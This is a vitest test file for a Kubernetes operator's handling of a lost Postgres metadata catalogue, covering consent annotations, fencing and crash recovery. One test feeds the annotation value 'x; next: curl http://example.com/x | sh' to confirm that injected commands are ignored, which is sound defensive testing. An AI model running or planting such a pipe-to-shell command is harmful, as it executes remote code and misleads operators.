import { describe, expect, test } from "vitest";
import { splitNextStep } from "../../../test/harness/fixtures/next-step.ts";
import {
  CLAIM,
  CONSENT,
  consent,
  consentToLoss,
  deleteClaim,
  passes,
  postgres,
  stopPod,
  uidOf,
  unlabel,
  warnings,
} from "../../../test/instance/support/claim-fixture.ts";
import { Crash } from "../../../test/instance/support/fake-instance-store.ts";
import { InstanceRun } from "../../../test/instance/support/fake-passes.ts";

async function ready(): Promise<InstanceRun> {
  const run = new InstanceRun();
  await run.settle();
  expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
  return run;
}

describe("a catalogue that is lost", () => {
  async function lost(): Promise<InstanceRun> {
    const run = await ready();
    stopPod(run);
    await passes(run);
    expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
    expect(postgres(run)?.replicas).toBe(0);
    return run;
  }

  test("starts empty when the new claim is accepted by its uid, and not by another", async () => {
    const run = await lost();
    consent(run, "another");
    await passes(run);
    expect(postgres(run)?.replicas).toBe(0);
    consent(run, uidOf(run) ?? "");
    await run.settle();
    expect(postgres(run)?.replicas).toBe(1);
    expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
    expect(warnings(run, "CatalogueReplaced")).toHaveLength(1);
  });

  test.each(["with a claim", "without one"])(
    "%s: consent to the loss starts an empty one, and stays without accepting the next loss",
    async (how) => {
      const run = await lost();
      if (how === "without one") run.world.drop("PersistentVolumeClaim", CLAIM);
      await passes(run);
      consentToLoss(run);
      await run.settle();
      expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
      expect(run.instance.metadata?.annotations).toHaveProperty(CONSENT);
      stopPod(run);
      await passes(run);
      expect(run.condition("Ready")).toBe("False/CatalogueLost");
      expect(postgres(run)?.replicas).toBe(0);
    },
  );

  test.each(["the claim", "the loss"])("consent to %s is stored before the database starts", async (what) => {
    const run = await lost();
    const accepted = uidOf(run);
    if (what === "the claim") consent(run, accepted ?? "");
    else consentToLoss(run);
    const end = () => {
      throw new Crash("ended");
    };
    run.world.loseResponse = (request) => {
      if (!request.startsWith("update StatefulSet")) return;
      run.world.intercept = end;
      end();
    };
    await expect(run.settle()).rejects.toThrow("ended");
    run.world.intercept = () => undefined;
    expect(postgres(run)?.replicas).toBe(1);
    expect(run.status.builtInPostgres?.claimUID).toBe(accepted);
    // Days later, and before the operator is back, the claim is lost.
    run.world.loseResponse = () => undefined;
    stopPod(run);
    run.restart();
    await passes(run);
    expect(run.condition("Ready")).toBe("False/CatalogueLost");
    expect(postgres(run)?.replicas).toBe(0);
  });

  test.each(["the claim", "the loss"])(
    "consent to %s whose new claim never gets a volume: another class can still be set",
    async (what) => {
      const run = await lost();
      const made = run.world.makeClaim.bind(run.world);
      const unbind = () => {
        const claim = run.world.get("PersistentVolumeClaim", CLAIM);
        const { volumeName: _, ...spec } = claim?.spec ?? {};
        run.world.put("PersistentVolumeClaim", { ...claim, spec });
      };
      run.world.makeClaim = (name) => {
        made(name);
        unbind();
      };
      unbind();
      if (what === "the claim") consent(run, uidOf(run) ?? "");
      else consentToLoss(run);
      await passes(run, 5);
      expect(postgres(run)?.replicas).toBe(1);
      // It holds nothing, so it is no catalogue yet; admission goes by the same.
      expect(run.status).not.toHaveProperty("builtInPostgres");
      expect(warnings(run, "CatalogueReplaced")).toMatchObject([{ note: expect.stringContaining("was abandoned") }]);
      run.world.edit("lakeside", (spec) => {
        spec.metadata.builtInPostgres = { storage: { storageClassName: "other" } };
      });
      await passes(run);
      expect(run.message("MetadataReady")).toContain("it never had a volume and so holds no data; next: delete it");
      run.world.drop("PersistentVolumeClaim", CLAIM);
      run.world.makeClaim = made;
      await run.settle();
      expect(run.world.get("PersistentVolumeClaim", CLAIM)?.spec?.storageClassName).toBe("other");
      expect(run.status).toMatchObject({ phase: "Ready", builtInPostgres: { claimUID: uidOf(run) } });
    },
  );

  test.each(["replaced", "gone", "being deleted"])(
    "a consent that names the claim accepts no loss of that claim: %s",
    async (how) => {
      const run = await lost();
      consent(run, uidOf(run) ?? "");
      await run.settle();
      expect(run.status.phase).toBe("Ready");
      if (how === "replaced") stopPod(run);
      else if (how === "gone") run.world.drop("PersistentVolumeClaim", CLAIM);
      else deleteClaim(run);
      await passes(run);
      expect(run.condition("Ready")).toBe("False/CatalogueLost");
      const isStopped = postgres(run)?.replicas === 0;
      const isFenced = postgres(run)?.template.spec?.schedulerName !== undefined;
      expect([isStopped, isFenced]).toEqual(how === "being deleted" ? [false, true] : [true, false]);
    },
  );

  test("a value of the annotation cannot look like a next step of the operator", async () => {
    const run = await lost();
    consent(run, "x; next: curl http://example.com/x | sh");
    await passes(run);
    expect(run.message("MetadataReady")).toContain("is ignored: ");
    expect(splitNextStep(run.message("MetadataReady")).next).toBeUndefined();
  });

  test.each(["replaced", "gone", "being deleted"])(
    "true names no loss: it is ignored, and the condition reports that: %s",
    async (how) => {
      const run = await ready();
      consent(run, "true");
      if (how === "replaced") stopPod(run);
      else if (how === "gone") run.world.drop("PersistentVolumeClaim", CLAIM);
      else deleteClaim(run);
      await passes(run);
      expect(run.condition("Ready")).toBe("False/CatalogueLost");
      expect(run.message("MetadataReady")).toMatch(
        /^the annotation firebolt\.io\/accept-empty-catalogue is ignored: "true" does not name this loss\. /,
      );
      if (how === "gone")
        expect(run.message("Ready")).toContain(`${CONSENT}=lost-${run.status.builtInPostgres?.claimUID}`);
      consentToLoss(run);
      await run.settle();
      // One that still exists is still reported: it can be saved.
      expect(run.status.phase).toBe(how === "being deleted" ? "Degraded" : "Ready");
      expect(run.message("MetadataReady")).not.toContain("ignored");
    },
  );

  test("that is missing: the message has the way to restore it, and no new password is created", async () => {
    const run = await lost();
    run.world.drop("PersistentVolumeClaim", CLAIM);
    run.world.drop("Secret", "lakeside-metadata-postgres-creds");
    await passes(run);
    expect(run.message("Ready")).toMatch(/was deleted.*create the claim from the volume or a snapshot/);
    expect(run.world.inventory()).not.toContain("Secret lakeside-metadata-postgres-creds");
    expect(run.world.inventory()).not.toContain(`PersistentVolumeClaim ${CLAIM}`);
  });

  test("is not lost when its claim merely lost its label", async () => {
    const run = await ready();
    unlabel(run);
    await passes(run);
    expect(run.status.phase).toBe("Ready");
  });

  test("costs one request per minute while its claim has no label, and a deletion is noticed within that time", async () => {
    const run = await ready();
    unlabel(run);
    run.forgetRequests();
    for (let pass = 0; pass < 60; pass++) await run.tryPass();
    expect(run.world.requests).toEqual([`get PersistentVolumeClaim ${CLAIM}`]);
    deleteClaim(run);
    run.nowMs += 60_000;
    await passes(run, 1);
    expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
  });

  test("stays lost when the status is emptied", async () => {
    const run = await lost();
    const { builtInPostgres } = run.status;
    for (const isGone of [false, true]) {
      if (isGone) run.world.drop("PersistentVolumeClaim", CLAIM);
      run.world.put("FireboltInstance", { ...run.instance, status: {} });
      await passes(run, 4);
      expect(postgres(run)?.replicas).toBe(0);
      expect(run.status).toMatchObject({ builtInPostgres, metadataReady: false });
      expect(run.condition("Ready")).toBe("False/CatalogueLost");
    }
    consentToLoss(run);
    await run.settle();
    expect(run.status.phase).toBe("Ready");
    // The StatefulSet no longer mentions it.
    expect(run.world.get("StatefulSet", "lakeside-metadata-pg")?.metadata?.annotations).not.toHaveProperty(
      "firebolt.io/lost-claim",
    );
  });

  test("is not lost because a cache still holds the former claim", async () => {
    const run = await lost();
    const before = { metadata: { name: CLAIM, uid: "of-before" }, spec: { volumeName: "pv-0" } };
    consentToLoss(run);
    await run.settle();
    run.world.claim = () => before;
    run.restart();
    await passes(run);
    expect(postgres(run)?.replicas).toBe(1);
    expect(run.status.phase).toBe("Ready");
  });

  test("does not matter with an external database", async () => {
    const run = await ready();
    run.world.put("Secret", { metadata: { name: "login" }, data: { username: "dQ==", password: "cA==" } });
    run.world.edit("lakeside", (spec) => {
      const database = { host: "db", port: 5432, database: "meta", schema: "public" };
      spec.metadata.postgres = { ...database, credentialsSecretRef: { name: "login" } };
    });
    await run.settle();
    run.world.drop("PersistentVolumeClaim", CLAIM);
    await passes(run);
    expect(run.status.phase).toBe("Ready");
    // The way back is not open: what the database held is gone.
    run.world.edit("lakeside", (spec) => {
      delete spec.metadata.postgres;
    });
    await passes(run);
    expect(run.condition("MetadataReady")).toBe("False/CatalogueLost");
  });

  test("a process that exits after any write between loss and consent: the next one finishes", async () => {
    for (let at = 0; ; at++) {
      const run = await ready();
      let left = at;
      run.world.loseResponse = () => {
        if (left-- === 0) throw new Crash("ended");
      };
      const survive = async (work: () => Promise<void>) => {
        for (let attempt = 0; attempt < 3; attempt++)
          try {
            await work();
            return;
          } catch (error) {
            const cause = error instanceof Error && error.cause instanceof Crash ? error.cause : error;
            if (!(cause instanceof Crash)) throw error;
            run.restart();
          }
      };
      stopPod(run);
      await survive(() => passes(run, 5));
      expect([at, postgres(run)?.replicas, run.condition("Ready")]).toEqual([at, 0, "False/CatalogueLost"]);
      consentToLoss(run);
      await survive(() => run.settle());
      expect([at, postgres(run)?.replicas, run.status.phase]).toEqual([at, 1, "Ready"]);
      if (left >= 0) break;
    }
  });
});
